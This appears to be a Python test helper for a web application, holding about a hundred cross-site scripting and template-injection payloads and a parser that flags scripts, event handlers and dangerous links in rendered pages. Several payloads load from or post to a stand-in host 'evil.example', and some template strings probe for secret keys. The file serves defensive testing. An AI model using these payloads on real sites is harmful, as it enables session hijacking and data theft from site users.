"""Texts that would become more than text where somebody forgot that they are texts."""

from html.parser import HTMLParser

CALL = "xss()"
TAGS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script >{CALL}</script >",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,xss()></script>",
    f"<script>{CALL}//",
    f"<script\n>{CALL}</script>",
    f"<script\t>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src=x onerror="{CALL}">',
    f"<img src=x oneRRor='{CALL}'>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=`x` onerror={CALL}>",
    f"<img src=x:x onerror={CALL} //",
    "<img src='//evil.example/?",
    '<img src="//evil.example/?',
    f"<image href=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,x onerror={CALL}>",
    f'<svg><foreignObject><iframe srcdoc="<script>{CALL}</script>">',
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<body onload={CALL}>",
    f"<body/onpageshow={CALL}>",
    f"<html onmouseover={CALL}>",
    f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    "<iframe src=//evil.example></iframe>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<video><source onerror={CALL}>",
    f"<video src=x onerror={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f'<a href="&#106;avascript:{CALL}">x</a>',
    "<a href=//evil.example target=_blank>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    f"<form action=javascript:{CALL}><button>x</button>",
    f"<button formaction=javascript:{CALL}>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    f"<style>@import 'javascript:{CALL}';</style>",
    f"<div style=background:url(javascript:{CALL})>",
    f'<div style="width:expression({CALL})">',
    f"<template><script>{CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<table background=javascript:{CALL}>",
    f"<x onclick={CALL} tabindex=1 id=x>",
    f"<x contenteditable onblur={CALL}>x",
    f"<dialog open onclose={CALL}>",
    f"<portal src=javascript:{CALL}>",
    f"<frameset onload={CALL}>",
    f"<isindex action=javascript:{CALL} type=image>",
    "<div hx-get=/sign-out hx-trigger=load>",
    f"<div hx-on:load={CALL}>",
    f"<div data-hx-on:load='{CALL}'>",
    f"<div hx-vals='js:{{x:{CALL}}}' hx-post=/sign-out hx-trigger=load>",
    f"<section id=x data-live>{CALL}</section>",
]
BREAKS = [
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover={CALL} x="',
    f"' onfocus={CALL} autofocus x='",
    f'" autofocus onfocus={CALL} "',
    f"` onerror={CALL} `",
    f"x onerror={CALL}",
    f"--><script>{CALL}</script>",
    f"--!><img src=x onerror={CALL}>",
    f"]]><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</option></select><img src=x onerror={CALL}>",
    f"</time></dd></dl><svg onload={CALL}>",
    f"</svg><script>{CALL}</script>",
    f"</template><script>{CALL}</script>",
    f'\\"><script>{CALL}</script>',
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"＜script＞{CALL}＜/script＞",
    f"\u202e<script>{CALL}</script>",
    f"<\u0000script>{CALL}</script>",
    "{{ request.user.password }}",
    "{% load static %}{% include 'shell.html' %}",
    "{% csrf_token %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>{{7*7}}",
    "%(who)s %s {0} {name}",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f" javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "vbscript:xss",
]
PAYLOADS = [*TAGS, *BREAKS]
NEVER = {"iframe", "object", "embed", "base", "style", "math", "image", "marquee", "portal", "frameset", "x", "isindex"}
OURS = ("/static/",)
LINKS = ("href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href", "background")


class Looker(HTMLParser):
    """What in a page would act, or lead to where no page of ours leads."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in NEVER or (tag == "meta" and "http-equiv" in given and "evil" in str(given)):
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith(OURS) and given.get("type") != "application/json":
            self.wrong.append(f"<script {given}>")
        for name, value in given.items():
            plain = "".join(value.split()).lower()
            acts = name.startswith(("on", "hx-on", "data-hx")) or name == "style" or '"' in name or "'" in name
            if acts or (name in LINKS and plain.startswith(("javascript:", "data:text", "vbscript:", "//"))):
                self.wrong.append(f"<{tag} {name}={value[:80]!r}>")


def acts_in(page: str) -> list[str]:
    looker = Looker()
    looker.feed(page)
    looker.close()
    return looker.wrong
